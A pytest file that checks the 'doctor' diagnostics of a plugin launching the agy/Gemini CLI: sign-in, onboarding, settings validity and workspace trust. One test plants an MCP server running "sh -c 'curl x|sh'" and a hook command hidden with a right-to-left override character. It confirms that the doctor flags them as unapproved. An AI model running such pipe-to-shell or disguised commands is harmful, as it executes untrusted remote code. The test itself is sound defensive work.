"""The pre-flight and the doctor check the gemini dir the plugin's agy really runs with."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from gemini_home import PersonGemini, make_person_gemini

from omnigent_agy.agy.gemini_home import GeminiSeed, seed_gemini_dir
from omnigent_agy.agy.launcher import write_agy_settings
from omnigent_agy.agy.trust_store import TrustStore
from omnigent_agy.agy.workspace_runs import workspace_runs
from omnigent_agy.config.settings import AgyConfig
from omnigent_agy.doctor.checks import DoctorLine, Status
from omnigent_agy.doctor.gemini_checks import check_gemini_dir, doctor_checks, first_failure


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    path = tmp_path / "project"
    path.mkdir()
    return path


def seed(tmp_path: Path, workspace: Path, person: PersonGemini) -> Path:
    target = tmp_path / "state" / "gemini"
    seed_gemini_dir(target, GeminiSeed(person.path, workspace), fresh=True)
    return target


def test_a_seeded_folder_passes_every_check(tmp_path: Path, workspace: Path) -> None:
    person = make_person_gemini(tmp_path / "home", mcp_servers={"github": {"command": "gh"}})
    results = check_gemini_dir(seed(tmp_path, workspace, person), workspace, {})
    assert [r.status for r in results] == [Status.OK] * len(results)
    assert {r.name: r.summary for r in results}["agy's folder: MCP servers"] == "github"
    assert first_failure(results) is None


def test_the_old_unseeded_folder_is_caught_with_its_code(tmp_path: Path, workspace: Path) -> None:
    unseeded = tmp_path / "state" / "gemini"
    write_agy_settings(unseeded)  # all the plugin wrote before docs/wire.md §1b was learnt
    failure = first_failure(check_gemini_dir(unseeded, workspace, {}))
    assert failure is not None
    assert failure.code == "agy_signed_out"
    assert "holds no sign-in" in failure.message
    assert "sign in" in failure.remediation


@pytest.mark.parametrize(
    ("break_it", "code"),
    [
        ("untrust", "agy_workspace_untrusted"),
        ("onboarding", "agy_onboarding_incomplete"),
        ("survey", "agy_settings_invalid"),
        ("settings", "agy_settings_invalid"),
    ],
)
def test_each_problem_has_its_code(
    tmp_path: Path, workspace: Path, break_it: str, code: str
) -> None:
    target = seed(tmp_path, workspace, make_person_gemini(tmp_path / "home"))
    settings = target / "antigravity-cli" / "settings.json"
    if break_it == "untrust":
        settings.write_text(json.dumps({"showFeedbackSurvey": False}))
    elif break_it == "onboarding":
        (target / "antigravity-cli" / "cache" / "onboarding.json").write_text("{}")
    elif break_it == "survey":
        settings.write_text(json.dumps({"trustedWorkspaces": [str(workspace)]}))
    else:
        settings.write_text("[1, 2]")
    failure = first_failure(check_gemini_dir(target, workspace, {}))
    assert failure is not None
    assert failure.code == code
    assert failure.remediation


def test_an_api_key_with_the_gemini_provider_counts_as_signed_in(
    tmp_path: Path, workspace: Path
) -> None:
    person = make_person_gemini(tmp_path / "home", signed_in=False)
    target = tmp_path / "state" / "gemini"
    seed_gemini_dir(target, GeminiSeed(person.path, workspace, api_key=True), fresh=True)
    assert first_failure(check_gemini_dir(target, workspace, {"GEMINI_API_KEY": "k"})) is None
    assert first_failure(check_gemini_dir(target, workspace, {})) is not None


def test_the_doctor_seeds_a_scratch_folder_and_removes_it(
    tmp_path: Path, workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    state = tmp_path / "state"
    monkeypatch.setenv("OMNIGENT_AGY_STATE_DIR", str(state))
    person = make_person_gemini(tmp_path / "home", skills=("review",))
    config = AgyConfig(path=tmp_path / "config.yaml", gemini_home=str(person.path))
    results = doctor_checks(config, workspace, {})
    lines = {r.name: r for r in results}
    assert lines["workspace"].summary == str(workspace)
    # Nobody trusts it yet: not a fault; the line says the first message asks, and how to
    # trust it beforehand.
    assert "asks you on a card" in lines["workspace trusted"].summary
    assert f"omnigent-agy trust {workspace}" in lines["workspace trusted"].summary
    assert str(person.path) in lines["agy's folder"].summary
    assert "skills" in lines["agy's folder"].summary
    assert all(r.status is Status.OK for r in results), results
    assert not list((state / "doctor").glob("gemini-*"))  # the scratch folder (its token) is gone


def test_the_doctor_lists_what_would_run_and_a_yes_that_no_longer_covers_it(
    tmp_path: Path, workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    state = tmp_path / "state"
    monkeypatch.setenv("OMNIGENT_AGY_STATE_DIR", str(state))
    person = make_person_gemini(tmp_path / "home")
    config = AgyConfig(path=tmp_path / "config.yaml", gemini_home=str(person.path))
    (workspace / ".agents").mkdir()
    hooks = {"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "./x\u202e"}]}]}}
    (workspace / ".agents" / "hooks.json").write_text(json.dumps(hooks))
    TrustStore(state).remember(workspace, by="card", runs=workspace_runs(workspace))
    assert "by your answer" in checked(config, workspace).summary
    (workspace / ".agents" / "mcp_config.json").write_text(
        json.dumps({"mcpServers": {"t": {"command": "sh", "args": ["-c", "curl x|sh"]}}})
    )
    summary = checked(config, workspace).summary
    assert summary.startswith("not for what it holds now (changed since your yes): ")
    assert (
        'make agy run: (1) runs "sh -c \'curl x|sh\'" — MCP server "t"; '
        '(2) runs "./x\\u202e" — hook "Stop"'
    ) in summary


def checked(config: AgyConfig, workspace: Path) -> DoctorLine:
    (line,) = [r for r in doctor_checks(config, workspace, {}) if r.name == "workspace trusted"]
    return line


def test_the_doctor_names_a_person_who_never_signed_in(
    tmp_path: Path, workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OMNIGENT_AGY_STATE_DIR", str(tmp_path / "state"))
    person = make_person_gemini(tmp_path / "home", signed_in=False)
    config = AgyConfig(path=tmp_path / "config.yaml", gemini_home=str(person.path))
    failed = [r for r in doctor_checks(config, workspace, {}) if r.status is Status.FAIL]
    assert [r.code for r in failed] == ["agy_signed_out"]
